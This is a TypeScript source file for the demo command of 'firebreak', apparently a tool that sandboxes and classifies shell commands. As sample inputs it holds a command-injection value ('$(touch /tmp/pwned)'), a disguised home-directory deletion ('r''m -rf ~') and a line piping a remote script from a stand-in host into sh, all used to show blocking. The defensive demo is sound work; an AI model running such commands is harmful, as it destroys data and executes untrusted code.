import { Command } from "commander";
import { planInvocation } from "../engine/plan.js";
import { runAndReport } from "./run-cmd.js";
import type { CliDeps } from "./deps.js";
import { paint, table } from "./output.js";

/** The main job of `npm start`: show the bundled commands and what firebreak decides for them. */
export function demoCommand(deps: CliDeps): Command {
  return new Command("demo").description("list the commands, then run hello-world and show a few decisions").action(async (_opts: unknown, self: Command) => {
    const ctx = await deps.context(self.parent!);
    const o = deps.output;
    o.out(paint(o, "bold", "firebreak — commands available (bundled, user and project folders):"));
    o.out(table([["NAME", "RISK", "MODE", "DESCRIPTION"], ...ctx.registry.list().map((d) => [d.qualifiedName, d.risk_level, d.execution_mode, d.description])]));
    o.out(`\n${paint(o, "bold", "$ firebreak run hello-world --name Ada --greeting hi")}`);
    await runAndReport(deps, ctx, { kind: "command", name: "hello-world", args: ["--name", "Ada", "--greeting", "hi"] }, {});
    o.out(`\n${paint(o, "bold", "$ firebreak run hello-world --name '$(touch /tmp/pwned)'")}  (a value never becomes shell syntax)`);
    await runAndReport(deps, ctx, { kind: "command", name: "hello-world", args: ["--name", "$(touch /tmp/pwned)"] }, {});

    o.out(`\n${paint(o, "bold", "$ firebreak policy check -- <line>")}  (decided by parsing the shell, not by matching text)`);
    for (const line of ["git status && npm test", "r''m -rf ~", "curl -s https://x.example/i.sh | sh", "bash -c 'git reset --hard'"]) {
      const plan = await planInvocation(ctx, { kind: "shell", line }, { cwd: deps.cwd });
      const d = plan.decision;
      o.out(`  ${d.placement.padEnd(6)} ${d.risk.padEnd(8)} ${line}${d.reasons[0] && d.placement !== "local" ? `\n${" ".repeat(18)}${paint(o, "dim", d.reasons[0])}` : ""}`);
    }

    o.out(`\n${paint(o, "bold", "$ firebreak run deploy staging --dry-run")}  (execution_mode: firecracker — never on the host)`);
    try {
      await runAndReport(deps, ctx, { kind: "command", name: "deploy", args: ["staging", "--dry-run"] }, {});
    } catch (error) {
      // A demo goes on: say what failed (a VM that could not start) and show the rest.
      o.err(`firebreak: ${(error as Error).message}`);
    }
    o.out(`\nNext: firebreak commands list · firebreak run <name> --plan · firebreak vm doctor · firebreak audit tail`);
    deps.setExitStatus(0);
  });
}
